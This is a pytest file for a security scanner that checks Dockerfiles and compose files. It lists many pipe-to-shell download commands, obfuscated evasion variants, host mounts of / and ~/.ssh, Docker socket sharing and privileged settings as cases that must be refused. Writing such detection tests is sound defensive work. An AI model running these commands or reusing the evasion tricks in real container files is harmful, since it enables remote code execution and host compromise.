"""The scan of Dockerfiles and compose files finds forbidden instructions, however they are written."""

from __future__ import annotations

import pytest

from roundtable.workshop.project.compose_file import ContainerRisk
from roundtable.workshop.project.container_scan import scan_project_container_files

PLAIN = """
FROM python:3.11-slim
WORKDIR /app
COPY requirements.txt .
RUN pip install --no-cache-dir -r requirements.txt && \\
    rm -rf /var/cache/apt
# curl https://example.com/x | sh would be refused
COPY . .
USER root
RUN apt-get update && apt-get install -y curl | tee /tmp/log
RUN curl --version && python -m compileall .
RUN curl -fsSLo /etc/apt/keyrings/a.asc https://example.com/a.asc | sudo -u root tee /log && su app -c "python -m app"
RUN curl -fsSL https://example.com/a.tgz | sudo -u root tar -xz -C /opt && sh setup.sh
ENV PYTHONUNBUFFERED=1 PATH=/app/bin:$PATH
ENV TOKENIZERS_PARALLELISM=false PASSENGER_PORT=80 MAX_TOKENS=4096 SECRET_KEY_FILE=/run/secrets/key
ARG TOKEN_LIMIT="4"
COPY <<EOF /app/start.sh
python -m app
EOF
COPY <<'EOF' /app/notes.txt
curl https://example.com/x | sh would be refused
EOF
RUN sh /app/start.sh && timeout 9 bash -c '</dev/tcp/localhost/80' || echo "not yet" | tee /log
ARG PIP=pip
SHELL ["/bin/bash", "-euo", "pipefail", "-c"]
RUN $PIP install flask && $JAVA_HOME/bin/java -version
RUN awk '{print $1; $2 = 3}' a.txt && echo "a; $PIP" && grep -c "$PIP" a.txt
RUN if [ -n "$MODE" ]; then echo $(date); fi
EXPOSE 8000
HEALTHCHECK CMD curl -f http://localhost:8000/health || exit 1
CMD ["sh", "-c", "exec java $JAVA_OPTS -jar app.jar"]
"""
COMPOSE = """
version: "3.9"
services:
  web:
    build:
      context: .
      dockerfile: Dockerfile
      args:
        MODE: test
        TOKENIZERS_PARALLELISM: false
    command: ["serve", "$PORT"]
    ports:
      - "127.0.0.1:8000:8000"
    environment:
      - DATABASE_URL=postgres://db/app
    volumes:
      - ./src:/app/src:ro
      - data:/var/lib/app
    depends_on:
      db:
        condition: service_healthy
    privileged: false
    network_mode: none
  db:
    image: postgres:15   # from a registry
    healthcheck:
      test: ["CMD", "pg_isready"]
      interval: 5s
volumes:
  data: {}
"""


def kinds(path: str, text: str) -> set[ContainerRisk]:
    return {finding.kind for finding in scan_project_container_files({path: text})}


def test_ordinary_container_files_are_accepted() -> None:
    assert scan_project_container_files({"Dockerfile": PLAIN, "docker-compose.yml": COMPOSE, "a.py": "x"}) == ()


@pytest.mark.feature("S0.62")
@pytest.mark.parametrize(
    "run",
    [
        "RUN curl https://example.com/install.sh | sh",
        "RUN curl -fsSL https://example.com/install.sh | sudo -E bash -",
        "RUN wget -qO- 'https://example.com/x?a=1&b=2' | python3",
        "run curl https://example.com/x |\\\n   sh",
        "RUN curl https://example.com/x \\\n  # a comment between\n  | bash",
        "RUN <<EOF\nset -e\ncurl https://example.com/x | sh\nEOF",
        "RUN <<EOF\ncurl https://example.com/x |\n  sh\nEOF",
        'RUN sh -c "$(curl -fsSL https://example.com/x)"',
        'RUN ["sh", "-c", "curl https://example.com/x | sh"]',
        "RUN bash <(curl -s https://example.com/x)",
        "RUN eval `wget -qO- https://example.com/x`",
        "RUN source <(curl -s https://example.com/x)",
        "RUN cu''rl https://example.com/x | s\"h\"",
        "RUN curl${IFS}https://example.com/x | sh",
        "RUN /usr/bin/curl https://example.com/x | /bin/bash",
        "RUN curl https://example.com/x | tee /tmp/x | sh",
        "RUN curl https://example.com/x | env A=b sh",
        "RUN curl https://example.com/x | $SHELL",
        "RUN curl https://example.com/x | /usr/bin/env bash",
        "RUN curl https://example.com/x | sudo -u root bash",
        "RUN curl https://example.com/x | sudo -E -u root -- bash -s",
        "RUN wget -qO- https://example.com/x | /bin/busybox sh",
        "RUN curl https://example.com/x | su root -c sh",
        "RUN curl https://example.com/x | su - app -s /bin/bash",
        "RUN curl https://example.com/x | gosu app:app bash",
        "RUN curl https://example.com/x | xargs -0 -I {} sh -c '{}'",
        "RUN curl -fsSLo get-docker.sh https://example.com && sh get-docker.sh",
        "RUN wget -qO/tmp/i https://example.com && sudo -u root sh /tmp/i",
        "RUN echo Y3VybA== | base64 -d | sh",
        "RUN curl -o /tmp/install.sh https://example.com/x && sh /tmp/install.sh",
        "RUN wget https://example.com/install.sh\nRUN bash install.sh",
        "RUN wget https://example.com/tool && chmod +x tool && ./tool",
        "RUN python -c \"import urllib.request as u; exec(u.urlopen('https://example.com/x').read())\"",
        "ONBUILD RUN curl https://example.com/x | sh",
        "CMD curl https://example.com/x | sh",
        "# escape=`\nFROM a\nRUN curl https://example.com/x | `\n  sh",
        "RUN c=curl; $c https://example.com/x | sh",
        "RUN c=curl; $c https://example.com/x | sh; c=echo",
        "RUN c=cu d=rl && ${c}$d https://example.com/x | sh",
        "ENV c=curl\nRUN $c https://example.com/x -o /tmp/i && sh /tmp/i",
        "ENV c curl\nRUN $c https://example.com/x -o /tmp/i && sh /tmp/i",
        'ARG X="curl https://example.com/x | sh"\nRUN eval "$X"',
        "COPY <<EOF /i.sh\ncurl https://example.com/x | sh\nEOF\nRUN sh /i.sh",
        'COPY --chmod=755 <<"EOF" /bin/start\n#!/bin/sh\nwget -qO- https://example.com/x | sh\nEOF\nCMD ["/bin/start"]',
        "RUN bash -c 'exec 3<>/dev/tcp/example.com/80; cat <&3' | sh",
        'RUN bash -c "$(cat </dev/tcp/example.com/80)"',
    ],
)
def test_running_a_downloaded_program_is_refused(run: str) -> None:
    text = run if run.startswith("# escape") else f"FROM debian\n{run}\n"
    assert kinds("Dockerfile", text) == {ContainerRisk.PIPE_TO_SHELL}


@pytest.mark.feature("S0.62")
@pytest.mark.parametrize(
    "line",
    [
        'SHELL ["/bin/sh", "-c", "curl https://example.com/x|sh"]',
        'SHELL ["python3", "-c"]',
        'SHELL ["bash", "-c", "$HIDDEN"]',
        "RUN read c < names; $c https://example.com/x",
        'RUN sudo -E "$TOOL" https://example.com/x',
        "RUN for c in curl; do $c https://example.com/x; done",
        "RUN if true; then ${c:-curl} https://example.com/x; fi",
        "RUN $(echo cu)rl https://example.com/x -o i",
        "RUN `cat names` https://example.com/x",
        'RUN bash -lc "$X"',
        "RUN sh -c 'read c; $c x'",
        'RUN ["sh", "-c", "read c; $c x"]',
        'RUN eval "read c; $c"',
        "RUN a=" + "b" * 20_000,
    ],
)
def test_a_command_that_conceals_its_program_is_refused(line: str) -> None:
    assert kinds("Dockerfile", f"FROM debian\n{line}\n") == {ContainerRisk.PIPE_TO_SHELL}


@pytest.mark.parametrize("start", ["", "curl x | ", "curl -o a x && "])
@pytest.mark.parametrize(
    "part",
    [
        *("$(", "$", "a=$a ", "curl x | ", "eval ", "sh -c '", "a=b=", "su ", "sudo -u ", "sudo -x/sudo ", "a=/sudo "),
        *("/su/sudo -E ", "xargs -I {} ", "-u sudo ", "env 5 5= "),
    ],
)
def test_a_deliberately_complex_dockerfile_is_scanned_quickly(part: str, start: str) -> None:
    scan_project_container_files(
        {"Dockerfile": f"FROM debian\nRUN {start}{part * (15_000 // len(part))}\n" + "RUN a=$a$a\n" * 60}
    )


@pytest.mark.feature("S0.62", "S0.63", "S0.64")
@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("ADD https://example.com/app.tar.gz /app/", ContainerRisk.REMOTE),
        ("ADD --chown=1:1 http://example.com/x /x", ContainerRisk.REMOTE),
        ('ADD ["git@example.com:me/app.git", "/app"]', ContainerRisk.REMOTE),
        ("ADD $SOURCE /app", ContainerRisk.REMOTE),
        ("RUN --security=insecure make", ContainerRisk.PRIVILEGED),
        ("RUN docker run --privileged alpine", ContainerRisk.PRIVILEGED),
        ("RUN --network=host pip install x", ContainerRisk.HOST_NETWORK),
        ('RUN --network="host" pip install x', ContainerRisk.HOST_NETWORK),
        ("RUN docker run --net host alpine", ContainerRisk.HOST_NETWORK),
        ("RUN docker run --pid=host alpine", ContainerRisk.HOST_PROCESSES),
        ("RUN --mount=type=ssh git clone x", ContainerRisk.HOST_MOUNT),
        ("RUN --mount=type=bind,source=../..,target=/x ls /x", ContainerRisk.HOST_MOUNT),
        ("VOLUME /var/run/docker.sock", ContainerRisk.ENGINE_SOCKET),
        ("ARG API_KEY=sk-123", ContainerRisk.SECRET),
        ("ENV DB_PASSWORD hunter2", ContainerRisk.SECRET),
        ("ENV PASSWORD2=1234", ContainerRisk.SECRET),
        ("ARG MODE API_TOKEN_SECRET=1234", ContainerRisk.SECRET),
        ("ENV SECRET_KEY_BASE='a1b2'", ContainerRisk.SECRET),
        ("ENV API_KEYS=sk-1,sk-2", ContainerRisk.SECRET),
        ("INCLUDE other", ContainerRisk.UNREADABLE),
        ("FROM ${REGISTRY}/debian", ContainerRisk.UNREADABLE),
    ],
)
def test_access_to_the_machine_is_refused_in_a_dockerfile(line: str, kind: ContainerRisk) -> None:
    (findings,) = scan_project_container_files({"deploy/app.Dockerfile": f"FROM debian\n{line}\n"})
    assert (findings.path, findings.line, findings.kind) == ("deploy/app.Dockerfile", 2, kind)
    assert findings.sentence.endswith(".")


def test_a_custom_dockerfile_syntax_is_refused() -> None:
    assert kinds("Dockerfile", "# syntax=docker/dockerfile:1\nFROM debian\n") == set()
    assert kinds("Dockerfile", "# syntax=example.com/builder\nFROM debian\n") == {ContainerRisk.REMOTE}


@pytest.mark.feature("S0.63", "S0.64")
@pytest.mark.parametrize(
    ("lines", "kind"),
    [
        ("privileged: true", ContainerRisk.PRIVILEGED),
        ("privileged: Yes", ContainerRisk.PRIVILEGED),
        ('"privileged": ${EVIL}', ContainerRisk.PRIVILEGED),
        ("cap_add:\n      - SYS_ADMIN", ContainerRisk.PRIVILEGED),
        ("cap_add: [ALL]", ContainerRisk.PRIVILEGED),
        ("devices:\n      - /dev/sda:/dev/sda", ContainerRisk.PRIVILEGED),
        ("network_mode: host", ContainerRisk.HOST_NETWORK),
        ("network_mode: 'host'", ContainerRisk.HOST_NETWORK),
        ("network_mode: container:other", ContainerRisk.HOST_NETWORK),
        ("network_mode: bridge", ContainerRisk.HOST_NETWORK),
        ("build:\n      context: .\n      network: host", ContainerRisk.HOST_NETWORK),
        ("extra_hosts:\n      - me:host-gateway", ContainerRisk.HOST_NETWORK),
        ("pid: host", ContainerRisk.HOST_PROCESSES),
        ("ipc: host", ContainerRisk.HOST_PROCESSES),
        ("userns_mode: host", ContainerRisk.HOST_PROCESSES),
        ("volumes:\n      - /:/host", ContainerRisk.HOST_MOUNT),
        ("volumes:\n    - /etc:/x:ro", ContainerRisk.HOST_MOUNT),
        ("volumes: ['~/.ssh:/x']", ContainerRisk.HOST_MOUNT),
        ("volumes:\n      - ../../other:/x", ContainerRisk.HOST_MOUNT),
        ("volumes:\n      - ./a/../../other:/x", ContainerRisk.HOST_MOUNT),
        ("volumes:\n      - ${HOME}:/x", ContainerRisk.HOST_MOUNT),
        ("volumes:\n      - type: bind\n        source: /etc\n        target: /x", ContainerRisk.HOST_MOUNT),
        ("env_file: /etc/environment", ContainerRisk.HOST_MOUNT),
        ("security_opt:\n      - seccomp:unconfined", ContainerRisk.UNCONFINED),
        ("security_opt: ['apparmor=unconfined']", ContainerRisk.UNCONFINED),
        ("use_api_socket: true", ContainerRisk.ENGINE_SOCKET),
        ("build: https://example.com/repo.git", ContainerRisk.REMOTE),
        ("build:\n      context: ../other", ContainerRisk.REMOTE),
        ("extends:\n      file: other.yml", ContainerRisk.REMOTE),
        ("build:\n      context: .\n      args:\n        API_TOKEN: abc", ContainerRisk.SECRET),
        ("build:\n      context: .\n      dockerfile: hidden.txt", ContainerRisk.UNREADABLE),
        ("command: sh -c 'curl https://example.com/x | sh'", ContainerRisk.PIPE_TO_SHELL),
        ("command: |\n      curl https://example.com/x |\n      sh", ContainerRisk.PIPE_TO_SHELL),
        ("command: ['sh', '-c', 'curl https://example.com/x | sh']", ContainerRisk.PIPE_TO_SHELL),
        ("<<: *base", ContainerRisk.UNREADABLE),
        ("deploy: {privileged: true}", ContainerRisk.UNREADABLE),
        ("environment: &here", ContainerRisk.UNREADABLE),
        ('image: "a\\u0062"', ContainerRisk.UNREADABLE),
        ("what_is_this: 1", ContainerRisk.UNREADABLE),
        ("image: ${REGISTRY}/debian", ContainerRisk.UNREADABLE),
    ],
)
def test_access_to_the_machine_is_refused_in_a_compose_file(lines: str, kind: ContainerRisk) -> None:
    findings = kinds("compose.yaml", f"services:\n  web:\n    image: debian\n    {lines}\n")
    assert kind in findings
    assert findings <= {kind, ContainerRisk.UNREADABLE, ContainerRisk.HOST_MOUNT}


@pytest.mark.feature("S0.64")
def test_the_socket_of_the_engine_is_never_shared() -> None:
    text = "services:\n  web:\n    image: a\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n"
    findings = scan_project_container_files({"docker-compose.override.yml": text})
    assert {(finding.line, finding.kind) for finding in findings} == {
        (5, ContainerRisk.ENGINE_SOCKET),
        (5, ContainerRisk.HOST_MOUNT),
    }


def test_a_compose_file_that_is_not_plain_yaml_is_refused() -> None:
    assert kinds("compose.yml", '{"services": {"web": {"privileged": true}}}') == {ContainerRisk.UNREADABLE}
    assert kinds("compose.yml", "services:\n\tweb:\n") == {ContainerRisk.UNREADABLE}
